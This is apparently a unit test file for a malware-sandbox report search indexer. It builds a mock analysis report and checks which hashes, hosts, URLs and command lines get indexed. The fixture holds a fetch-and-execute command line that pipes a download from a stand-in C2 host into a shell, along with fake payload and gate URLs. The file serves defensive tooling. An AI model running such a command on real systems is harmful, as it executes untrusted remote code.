import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { searchDocumentOf, searchEntriesOf } from '../../src/report/search-entries.js';
import { SEARCH_FIELDS } from '../../src/report/search-fields.js';

const file = (name: string, digit: string, extra: Record<string, unknown> = {}) => ({
  name,
  path: `/srv/nestbox/storage/binaries/${digit.repeat(64)}`,
  size: 10,
  crc32: '00000000',
  md5: digit.repeat(32),
  sha1: digit.repeat(40),
  sha256: digit.repeat(64),
  sha512: digit.repeat(128),
  ssdeep: `3:${digit}bc:${digit}d`,
  type: 'ELF',
  yara: [],
  urls: ['http://strings.example.test/not-network'],
  ...extra,
});

/** The entries of file('…', digit)'s hashes. */
const hashEntries = (digit: string) => [
  { field: 'sha256', value: digit.repeat(64) },
  { field: 'md5', value: digit.repeat(32) },
  { field: 'sha1', value: digit.repeat(40) },
  { field: 'ssdeep', value: `3:${digit}bc:${digit}d` },
];

/** A report with one value of every field, in the sections where nestbox (and Cuckoo) put them. */
const REPORT = {
  info: { id: 7, score: 6.5, category: 'file' },
  target: { category: 'file', file: file('dropper.elf', 'a') },
  static: { pe_imphash: 'F34D5F2D4577ED6D9CEEC516C1F5A744' },
  dropped: [{ ...file('0123456789abcdef_stage2.bin', 'b'), filepath: '/tmp/.cache/stage2.bin', pids: [50] }],
  network: {
    hosts: ['203.0.113.7'],
    domains: [{ domain: 'c2.example.test', ip: '203.0.113.7' }],
    dns: [
      { request: 'c2.example.test', type: 'A', answers: [{ type: 'A', data: '203.0.113.7' }, { type: 'CNAME', data: 'alias.example.test' }] },
      { request: 'v6.example.test', type: 'AAAA', answers: [{ type: 'AAAA', data: '2001:db8::1' }] },
    ],
    http: [{ host: 'c2.example.test', port: 80, uri: 'http://c2.example.test/gate.php?id=1', path: '/gate.php?id=1', method: 'GET' }],
    tls: [{ dst: '203.0.113.8', dport: 443, sni: 'secure.example.test' }],
  },
  behavior: {
    processes: [
      { pid: 50, command_line: '/tmp/dropper.elf --daemon', calls: [] },
      { pid: 51, command_line: 'sh -c "curl -s http://c2.example.test/x | sh"', calls: [] },
    ],
    summary: {
      command_line: ['/tmp/dropper.elf --daemon'],
      resolves_host: ['c2.example.test'],
      connects_ip: ['198.51.100.9'],
      connects_host: ['[2001:db8::2]'],
      fetches_url: ['http://198.51.100.9:8080/payload'],
      mutex: ['Global\\nestbox-once'],
      file_written: ['/tmp/not-indexed'],
    },
  },
  signatures: [
    { name: 'executable_dropped_tmp', ttp: { T1105: { short: 'Ingress Tool Transfer', long: '' } } },
    { name: 'reverse_shell', ttp: { 'T1059.004': null, T1105: null } },
  ],
};

describe('search entries of a report', () => {
  it('takes every field from the sections that hold it, once each', () => {
    const entries = searchEntriesOf(REPORT);
    assert.deepEqual(entries, [
      ...hashEntries('a'),
      { field: 'filename', value: 'dropper.elf' },
      { field: 'imphash', value: 'F34D5F2D4577ED6D9CEEC516C1F5A744' },
      ...hashEntries('b'),
      { field: 'filename', value: 'stage2.bin' },
      { field: 'filename', value: '/tmp/.cache/stage2.bin' },
      { field: 'ip', value: '203.0.113.7' },
      { field: 'domain', value: 'c2.example.test' },
      { field: 'domain', value: 'v6.example.test' },
      { field: 'ip', value: '2001:db8::1' },
      { field: 'url', value: 'http://c2.example.test/gate.php?id=1' },
      { field: 'domain', value: 'secure.example.test' },
      { field: 'cmdline', value: '/tmp/dropper.elf --daemon' },
      { field: 'cmdline', value: 'sh -c "curl -s http://c2.example.test/x | sh"' },
      { field: 'ip', value: '198.51.100.9' },
      { field: 'ip', value: '2001:db8::2' },
      { field: 'url', value: 'http://198.51.100.9:8080/payload' },
      { field: 'mutex', value: 'Global\\nestbox-once' },
      { field: 'signature', value: 'executable_dropped_tmp' },
      { field: 'attack', value: 'T1105' },
      { field: 'signature', value: 'reverse_shell' },
      { field: 'attack', value: 'T1059.004' },
    ]);
    assert.deepEqual(
      SEARCH_FIELDS.filter((field) => !entries.some((entry) => entry.field === field)),
      [],
      'the report holds a value of every field',
    );
  });

  it('never indexes host paths, a dropped file\'s stored name, or strings that are not network activity', () => {
    const values = searchEntriesOf(REPORT).map((entry) => entry.value);
    assert.ok(!values.some((value) => value.includes('/srv/nestbox')), values.join('\n'));
    assert.ok(!values.includes('0123456789abcdef_stage2.bin'));
    assert.ok(!values.includes('http://strings.example.test/not-network'));
    assert.ok(!values.includes('/tmp/not-indexed'));
  });

  it('indexes a URL task by its URL and host, and an archive task by the archive too', () => {
    assert.deepEqual(searchEntriesOf({ target: { category: 'url', url: 'https://login.example.test/x' } }), [
      { field: 'url', value: 'https://login.example.test/x' },
      { field: 'domain', value: 'login.example.test' },
    ]);
    const archive = searchEntriesOf({
      target: { category: 'archive', file: file('x.sh', 'c', { ssdeep: null }), filename: 'bin/x.sh', archive: file('bundle.zip', 'd') },
    });
    assert.deepEqual(
      archive.filter((entry) => entry.field === 'filename' || entry.field === 'sha256' || entry.field === 'ssdeep'),
      [
        { field: 'sha256', value: 'c'.repeat(64) },
        { field: 'filename', value: 'x.sh' },
        { field: 'filename', value: 'bin/x.sh' },
        { field: 'sha256', value: 'd'.repeat(64) },
        { field: 'ssdeep', value: '3:dbc:dd' },
        { field: 'filename', value: 'bundle.zip' },
      ],
    );
  });

  it('keeps at most 1000 values of a field, cuts long values and drops blank ones', () => {
    const entries = searchEntriesOf({
      network: { dns: Array.from({ length: 1500 }, (_, index) => ({ request: `host${index}.example.test`, answers: [] })) },
      behavior: { processes: [{ command_line: `python3 -c ${'x'.repeat(5000)}` }, { command_line: '   ' }, { command_line: '' }] },
    });
    assert.equal(entries.filter((entry) => entry.field === 'domain').length, 1000);
    const commands = entries.filter((entry) => entry.field === 'cmdline');
    assert.equal(commands.length, 1);
    assert.equal(commands[0]!.value.length, 2048);
  });

  it('takes a malformed report as it comes: odd sections give nothing, never an error', () => {
    for (const report of [null, 'text', 42, [], {}, { target: null, network: [], behavior: 'x', signatures: {}, dropped: [null, 5] }]) {
      assert.deepEqual(searchEntriesOf(report), []);
    }
    const odd = searchEntriesOf({
      network: { hosts: [1, null, '192.0.2.1'], http: [{ host: 5, uri: 'not a url' }], dns: [{ request: 'a.example.test', answers: 'x' }] },
      signatures: [{ name: 3, ttp: ['T1'] }, { name: 'ok', ttp: null }],
    });
    assert.deepEqual(odd, [
      { field: 'ip', value: '192.0.2.1' },
      { field: 'domain', value: 'a.example.test' },
      { field: 'url', value: 'not a url' },
      { field: 'signature', value: 'ok' },
    ]);
  });
});

describe('search document of a report', () => {
  it('shows the file name, the URL, or the archive member with its archive, and the score', () => {
    assert.deepEqual(
      { ...searchDocumentOf(REPORT), entries: undefined },
      { target: 'dropper.elf', score: 6.5, entries: undefined },
    );
    assert.equal(searchDocumentOf({ target: { url: 'http://x.example.test/' }, info: { score: 1 } }).target, 'http://x.example.test/');
    assert.equal(searchDocumentOf({ target: { human: 'bin/x.sh @ bundle.zip', file: file('x.sh', 'c') } }).target, 'bin/x.sh @ bundle.zip');
  });

  it('scores a report without a usable score 0 and names a target it cannot find ""', () => {
    assert.deepEqual(searchDocumentOf({ info: { score: 'high' } }), { target: '', score: 0, entries: [] });
    assert.equal(searchDocumentOf({ info: { score: Number.NaN } }).score, 0);
  });
});
